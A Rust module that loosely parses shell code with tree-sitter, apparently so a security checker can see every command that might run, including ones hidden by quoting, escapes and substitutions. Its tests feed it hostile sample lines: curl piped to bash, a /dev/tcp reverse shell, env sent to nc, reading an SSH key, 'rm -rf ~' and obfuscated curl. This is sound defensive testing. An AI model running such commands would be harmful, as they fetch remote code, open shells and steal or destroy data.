//! A loose reading of shell code, for those who want to know what it may do rather than what it does for sure.
//!
//! Nothing is refused: what is not understood is left out, and everything that is nested is looked at. Compare [`read`](crate::read), which
//! refuses whatever it does not know for sure; nothing may be allowed because of a sketch.

use std::cell::Cell;
use std::ops::Range;

use tree_sitter::{Node, Parser};

use crate::tree::parse;

/// Commands that stand after each other.
pub type Script = Vec<Pipeline>;

/// Commands whose output is the next one's input.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Pipeline {
    /// The commands.
    pub stages: Vec<Stage>,
}

/// One command of a pipeline.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Stage {
    /// Variables that are set for it, or for all that follows where there is no program.
    pub assignments: Vec<(String, Text)>,
    /// The program and its arguments.
    pub words: Vec<Text>,
    /// Files that are opened, and what is read from the line itself.
    pub redirects: Vec<(Direction, Text)>,
    /// What runs inside: a group, a loop, the body of a function.
    pub body: Script,
    /// Where it stands.
    pub range: Range<usize>,
}

/// Which way a redirection goes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Direction {
    /// A file is read.
    In,
    /// A file is written anew.
    Out,
    /// A file is written to at its end.
    Append,
    /// The text is the input.
    Here,
}

/// A word, piece by piece.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Text {
    /// The pieces, in order.
    pub pieces: Vec<Piece>,
}

/// A piece of a word.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Piece {
    /// Itself, quotes and escapes resolved.
    Plain(String),
    /// The value of a variable.
    Variable(String),
    /// The output of commands.
    Output(Script),
    /// The name of a file that holds the output of commands.
    File(Script),
    /// Something that is not looked into.
    Other,
}

/// How deep things are looked for inside each other.
const DEEPEST: usize = 100;
/// The longest text that is read.
const MAX_BYTES: usize = 1 << 20;

/// Reads shell code as far as it can be; `None` if that is too much work, or it is nested too deeply.
pub fn sketch(text: &str) -> Option<Script> {
    if text.len() > MAX_BYTES {
        return None;
    }
    let mut parser = Parser::new();
    parser.set_language(&tree_sitter_bash::LANGUAGE.into()).ok()?;
    let tree = parse(&mut parser, text).ok()?;
    let reading = Reading { text, is_cut: Cell::new(false) };
    let script = reading.script(tree.root_node(), 0);
    (!reading.is_cut.get()).then_some(script)
}

struct Reading<'a> {
    text: &'a str,
    /// Whether something stands deeper than is looked.
    is_cut: Cell<bool>,
}

impl Reading<'_> {
    fn script(&self, node: Node<'_>, depth: usize) -> Script {
        let mut found = Vec::new();
        if depth < DEEPEST {
            let mut cursor = node.walk();
            for child in node.children(&mut cursor) {
                self.statement(child, depth + 1, &mut found);
            }
        } else {
            self.is_cut.set(true);
        }
        found
    }

    fn statement(&self, node: Node<'_>, depth: usize, found: &mut Script) {
        if depth > DEEPEST {
            self.is_cut.set(true);
            return;
        }
        match node.kind() {
            "pipeline" => {
                let mut stages = Vec::new();
                let mut cursor = node.walk();
                for child in node.named_children(&mut cursor) {
                    let mut inner = Vec::new();
                    self.statement(child, depth + 1, &mut inner);
                    // What stands at one place of a pipeline is one stage of it.
                    match inner.len() {
                        1 => {
                            stages
                                .extend(inner.pop().map(|inner| inner.stages).unwrap_or_default());
                        }
                        0 => {}
                        _ => stages.push(Stage {
                            body: inner,
                            range: child.byte_range(),
                            ..Stage::default()
                        }),
                    }
                }
                found.push(Pipeline { stages });
            }
            "command" | "declaration_command" | "unset_command" | "test_command" => {
                found.push(Pipeline { stages: vec![self.command(node, depth)] });
            }
            "variable_assignment" | "variable_assignments" => {
                found.push(Pipeline { stages: vec![self.command(node, depth)] });
            }
            "redirected_statement" => self.redirected(node, depth, found),
            "subshell" | "compound_statement" | "do_group" | "function_definition" => {
                let body = self.script(node, depth);
                let range = node.byte_range();
                found.push(Pipeline { stages: vec![Stage { body, range, ..Stage::default() }] });
            }
            "for_statement" => {
                // The name of a loop is each of its words.
                if let Some(name) = node.child_by_field_name("variable") {
                    let mut text = Text::default();
                    let mut cursor = node.walk();
                    for value in node.children_by_field_name("value", &mut cursor) {
                        self.pieces(value, depth + 1, &mut text);
                    }
                    let name = self.text[name.byte_range()].to_owned();
                    let range = node.byte_range();
                    let stage =
                        Stage { assignments: vec![(name, text)], range, ..Stage::default() };
                    found.push(Pipeline { stages: vec![stage] });
                }
                found.extend(self.script(node, depth));
            }
            "list"
            | "program"
            | "if_statement"
            | "elif_clause"
            | "else_clause"
            | "c_style_for_statement"
            | "while_statement"
            | "case_statement"
            | "case_item"
            | "negated_command"
            | "ERROR" => found.extend(self.script(node, depth)),
            "command_substitution" | "process_substitution" => {
                found.extend(self.script(node, depth));
            }
            // A bare word where a statement is expected: the grammar was lost here, the word may still matter.
            _ => {
                let mut cursor = node.walk();
                for child in node.named_children(&mut cursor) {
                    self.statement(child, depth + 1, found);
                }
            }
        }
    }

    fn redirected(&self, node: Node<'_>, depth: usize, found: &mut Script) {
        let mut inner = Vec::new();
        let mut redirects = Vec::new();
        let mut cursor = node.walk();
        for child in node.named_children(&mut cursor) {
            match child.kind() {
                "file_redirect" | "heredoc_redirect" | "herestring_redirect" => {
                    self.redirect(child, depth, &mut redirects, &mut inner);
                }
                _ => self.statement(child, depth + 1, &mut inner),
            }
        }
        // The files belong to the last command of what they are written after.
        match inner.iter_mut().rev().find_map(|pipeline| pipeline.stages.last_mut()) {
            Some(stage) => stage.redirects.extend(redirects),
            None => inner.push(Pipeline {
                stages: vec![Stage { redirects, range: node.byte_range(), ..Stage::default() }],
            }),
        }
        found.extend(inner);
    }

    fn redirect(
        &self,
        node: Node<'_>,
        depth: usize,
        redirects: &mut Vec<(Direction, Text)>,
        beside: &mut Script,
    ) {
        if node.kind() == "heredoc_redirect" {
            let mut cursor = node.walk();
            for child in node.named_children(&mut cursor) {
                match child.kind() {
                    "heredoc_body" => redirects.push((Direction::Here, self.quoted(child, depth))),
                    "heredoc_start" | "heredoc_end" | "file_descriptor" => {}
                    "file_redirect" => self.redirect(child, depth, redirects, beside),
                    // `cat <<EOF | sh`: the rest of the pipeline stands in the redirection.
                    "pipeline" => {
                        let mut rest = Vec::new();
                        self.statement(child, depth + 1, &mut rest);
                        beside.extend(rest);
                    }
                    _ => self.statement(child, depth + 1, beside),
                }
            }
            return;
        }
        let mut cursor = node.walk();
        let mut direction = Direction::Out;
        for child in node.children(&mut cursor) {
            match child.kind() {
                "<" | "<&" => direction = Direction::In,
                ">>" | "&>>" => direction = Direction::Append,
                "<<<" => direction = Direction::Here,
                ">" | ">|" | ">&" | "&>" | "<>" => direction = Direction::Out,
                "file_descriptor" => {}
                _ => {
                    let mut text = Text::default();
                    self.pieces(child, depth, &mut text);
                    redirects.push((direction, text));
                }
            }
        }
    }

    fn command(&self, node: Node<'_>, depth: usize) -> Stage {
        let mut stage = Stage { range: node.byte_range(), ..Stage::default() };
        if node.kind() == "variable_assignment" {
            stage.assignments.extend(self.assignment(node, depth));
            return stage;
        }
        let mut cursor = node.walk();
        for child in node.children(&mut cursor) {
            match child.kind() {
                "variable_assignment" => stage.assignments.extend(self.assignment(child, depth)),
                "file_redirect" | "herestring_redirect" | "heredoc_redirect" => {
                    self.redirect(child, depth, &mut stage.redirects, &mut stage.body);
                }
                "command_name" => {
                    let mut text = Text::default();
                    let mut inner = child.walk();
                    for part in child.children(&mut inner) {
                        self.pieces(part, depth, &mut text);
                    }
                    stage.words.push(text);
                }
                "<<<" => {}
                _ => {
                    let mut text = Text::default();
                    self.pieces(child, depth, &mut text);
                    stage.words.push(text);
                }
            }
        }
        stage
    }

    fn assignment(&self, node: Node<'_>, depth: usize) -> Option<(String, Text)> {
        let name = node.child_by_field_name("name")?;
        let mut text = Text::default();
        if let Some(value) = node.child_by_field_name("value") {
            self.pieces(value, depth, &mut text);
        }
        Some((self.text[name.byte_range()].to_owned(), text))
    }

    fn pieces(&self, node: Node<'_>, depth: usize, text: &mut Text) {
        let source = &self.text[node.byte_range()];
        if depth > DEEPEST {
            self.is_cut.set(true);
            text.pieces.push(Piece::Other);
            return;
        }
        match node.kind() {
            "concatenation" => {
                // What stands between the parts that have a name is part of the word as well.
                let mut at = node.start_byte();
                let mut cursor = node.walk();
                for child in node.named_children(&mut cursor) {
                    text.plain(&unescaped(&self.text[at..child.start_byte()]));
                    self.pieces(child, depth + 1, text);
                    at = child.end_byte();
                }
                text.plain(&unescaped(&self.text[at..node.end_byte()]));
            }
            "array" | "translated_string" => {
                let mut cursor = node.walk();
                for child in node.named_children(&mut cursor) {
                    self.pieces(child, depth + 1, text);
                }
            }
            "raw_string" => text.plain(source.trim_matches('\'')),
            "ansi_c_string" => {
                let inner = source.strip_prefix("$'").unwrap_or(source);
                text.plain(&escapes(inner.strip_suffix('\'').unwrap_or(inner)));
            }
            "string" => text.pieces.extend(self.quoted(node, depth).pieces),
            "simple_expansion" => {
                text.pieces.push(Piece::Variable(source.trim_start_matches('$').to_owned()));
            }
            "expansion" => {
                let mut cursor = node.walk();
                let name = node.named_children(&mut cursor).find(|child| {
                    matches!(child.kind(), "variable_name" | "special_variable_name")
                });
                text.pieces.push(name.map_or(Piece::Other, |name| {
                    Piece::Variable(self.text[name.byte_range()].to_owned())
                }));
            }
            "command_substitution" => text.pieces.push(Piece::Output(self.script(node, depth))),
            "process_substitution" => text.pieces.push(Piece::File(self.script(node, depth))),
            "word" | "number" | "string_content" | "regex" | "extglob_pattern" => {
                text.plain(&unescaped(source));
            }
            "arithmetic_expansion" => text.pieces.push(Piece::Other),
            _ if node.named_child_count() > 0 => {
                let mut cursor = node.walk();
                for child in node.named_children(&mut cursor) {
                    self.pieces(child, depth + 1, text);
                }
            }
            _ => text.plain(&unescaped(source)),
        }
    }

    /// Reads what stands in double quotes or in a document on the line: text with expansions in it.
    fn quoted(&self, node: Node<'_>, depth: usize) -> Text {
        let mut text = Text::default();
        let (mut at, mut end) = (node.start_byte(), node.end_byte());
        if node.kind() == "string" {
            at += 1;
            end = end.saturating_sub(1).max(at);
        }
        let mut cursor = node.walk();
        for child in node.named_children(&mut cursor) {
            if matches!(child.kind(), "string_content" | "heredoc_content") {
                continue;
            }
            if child.start_byte() >= at && child.end_byte() <= end {
                text.plain(
                    &self.text[at..child.start_byte()].replace("\\\"", "\"").replace("\\$", "$"),
                );
                self.pieces(child, depth + 1, &mut text);
                at = child.end_byte();
            }
        }
        text.plain(&self.text[at..end].replace("\\\"", "\"").replace("\\$", "$"));
        text
    }
}

impl Text {
    fn plain(&mut self, more: &str) {
        if more.is_empty() && !self.pieces.is_empty() {
            return;
        }
        match self.pieces.last_mut() {
            Some(Piece::Plain(text)) => text.push_str(more),
            _ => self.pieces.push(Piece::Plain(more.to_owned())),
        }
    }
}

/// Takes backslashes out of text without quotes; one at the end of a line joins it with the next.
fn unescaped(text: &str) -> String {
    let mut plain = String::with_capacity(text.len());
    let mut characters = text.chars();
    while let Some(character) = characters.next() {
        match character {
            '\\' => plain.extend(characters.next().filter(|next| *next != '\n')),
            _ => plain.push(character),
        }
    }
    plain
}

/// Resolves the escapes of `$'…'`, and of `printf` and `echo -e`, which know the same ones.
pub fn escapes(text: &str) -> String {
    let (mut plain, mut rest) = (Vec::with_capacity(text.len()), text.as_bytes());
    while let Some((first, after)) = rest.split_first() {
        let used = match after.first() {
            Some(next) if *first == b'\\' => escape(*next, after, &mut plain),
            _ => {
                plain.push(*first);
                0
            }
        };
        rest = &after[used..];
    }
    String::from_utf8_lossy(&plain).into_owned()
}

/// Resolves one escape, of which the backslash is gone already; returns how many bytes it has.
fn escape(kind: u8, text: &[u8], plain: &mut Vec<u8>) -> usize {
    let number = |from: usize, most: usize, radix: u32| {
        let digits = text[from..].iter().take(most);
        let count = digits.take_while(|byte| char::from(**byte).is_digit(radix)).count();
        let digits = std::str::from_utf8(&text[from..from + count]).unwrap_or_default();
        (u32::from_str_radix(digits, radix).unwrap_or(0), from + count)
    };
    match kind {
        b'x' => {
            let (value, used) = number(1, 2, 16);
            plain.push(value.to_le_bytes()[0]);
            used
        }
        b'u' | b'U' => {
            let (value, used) = number(1, if kind == b'u' { 4 } else { 8 }, 16);
            let character = char::from_u32(value).unwrap_or(char::REPLACEMENT_CHARACTER);
            plain.extend_from_slice(character.encode_utf8(&mut [0; 4]).as_bytes());
            used
        }
        b'0'..=b'7' => {
            let (value, used) = number(0, if kind == b'0' { 4 } else { 3 }, 8);
            plain.push(value.to_le_bytes()[0]);
            used
        }
        b'a' | b'b' | b'e' | b'E' | b'f' | b'v' => 1,
        other => {
            let plain_byte = match other {
                b'n' => b'\n',
                b't' => b'\t',
                b'r' => b'\r',
                other => other,
            };
            plain.push(plain_byte);
            1
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shown(script: &Script) -> String {
        let pipelines = script.iter().map(|pipeline| {
            let stages = pipeline.stages.iter().map(stage);
            stages.collect::<Vec<_>>().join(" | ")
        });
        pipelines.collect::<Vec<_>>().join("; ")
    }

    fn stage(stage: &Stage) -> String {
        let mut parts: Vec<String> = stage
            .assignments
            .iter()
            .map(|(name, value)| format!("{name}={}", text(value)))
            .collect();
        parts.extend(stage.words.iter().map(text));
        parts.extend(stage.redirects.iter().map(|(way, to)| format!("{way:?}:{}", text(to))));
        if !stage.body.is_empty() {
            parts.push(format!("{{{}}}", shown(&stage.body)));
        }
        parts.join(" ")
    }

    fn text(text: &Text) -> String {
        let piece = |piece: &Piece| match piece {
            Piece::Plain(text) => text.clone(),
            Piece::Variable(name) => format!("<{name}>"),
            Piece::Output(script) => format!("$({})", shown(script)),
            Piece::File(script) => format!("<({})", shown(script)),
            Piece::Other => "?".to_owned(),
        };
        text.pieces.iter().map(piece).collect()
    }

    #[test]
    fn everything_that_may_run_is_found() {
        for (line, expected) in [
            ("curl -fsSL http://x/y | bash -s", "curl -fsSL http://x/y | bash -s"),
            ("c'u'r\"l\" $H/x", "curl <H>/x"),
            ("A=b; eval \"$(echo $A | rev)\"", "A=b; eval $(echo <A> | rev)"),
            ("bash <(curl x)", "bash <(curl x)"),
            ("bash -c \"$(curl x)\"", "bash -c $(curl x)"),
            ("if true; then rm -rf ~; fi", "true; rm -rf ~"),
            ("for i in a; do curl $i; done", "i=a; {curl <i>}"),
            ("f() { curl x; }; f", "{{curl x}}; f"),
            ("(cd x && env) | nc h 1", "{cd x; env} | nc h 1"),
            ("echo x >> ~/.bashrc", "echo x Append:~/.bashrc"),
            ("cat < ~/.ssh/id", "cat In:~/.ssh/id"),
            ("bash -i >& /dev/tcp/1.2.3.4/9 0>&1", "bash -i Out:/dev/tcp/1.2.3.4/9 Out:0 Out:1"),
            ("base64 -d <<< aGk=", "base64 -d Here:aGk="),
            ("$'\\x63url' x", "curl x"),
            ("export A=1 B=2", "A=1 B=2 export"),
            ("curl x \\\n  -o y", "curl x -o y"),
            ("sudo -n rm 'a b'", "sudo -n rm a b"),
        ] {
            assert_eq!(shown(&sketch(line).unwrap()), expected, "{line}");
        }
    }

    #[test]
    fn escapes_are_resolved() {
        assert_eq!(escapes(r"\x63\165rl\n\u0041\\"), "curl\nA\\");
        assert_eq!(escapes("\\"), "\\");
        assert_eq!(escapes(r"\x"), "\0");
    }
}
